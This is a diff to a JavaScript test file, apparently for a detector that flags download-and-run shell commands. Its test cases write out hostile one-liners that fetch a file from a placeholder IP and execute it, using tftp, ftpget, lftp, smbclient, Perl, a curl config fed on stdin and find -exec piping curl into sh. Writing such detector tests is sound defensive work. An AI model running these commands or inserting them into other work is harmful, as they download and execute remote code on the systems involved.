@@ -62,6 +62,8 @@ describe('download-and-run finds at start', () => {
     ['tftp', 'tftp 203.0.113.9 -c get x /tmp/x; sh /tmp/x'],
     ["BusyBox' tftp", 'tftp -g -r x -l /tmp/x 203.0.113.9; chmod +x /tmp/x; /tmp/x'],
     ["BusyBox' ftpget", 'ftpget -u a 203.0.113.9 /tmp/x x; sh /tmp/x'],
+    ["curl's settings", `curl -K - <<E\nurl = ${IP}\noutput = /tmp/x\nE\nsh /tmp/x`],
+    ['find -exec', `find /var/www -name index.php -exec sh -c 'curl -s ${IP} | sh' \\;`],
     ['lftp', 'lftp -c "open 203.0.113.9; get x -o /tmp/x"; sh /tmp/x'],
     ['smbclient', "smbclient //203.0.113.9/s -N -c 'get x /tmp/x'; sh /tmp/x"],
     ['Perl on the command line', `perl -MLWP::Simple -e 'getstore("${IP}","/tmp/x")'; perl /tmp/x`],
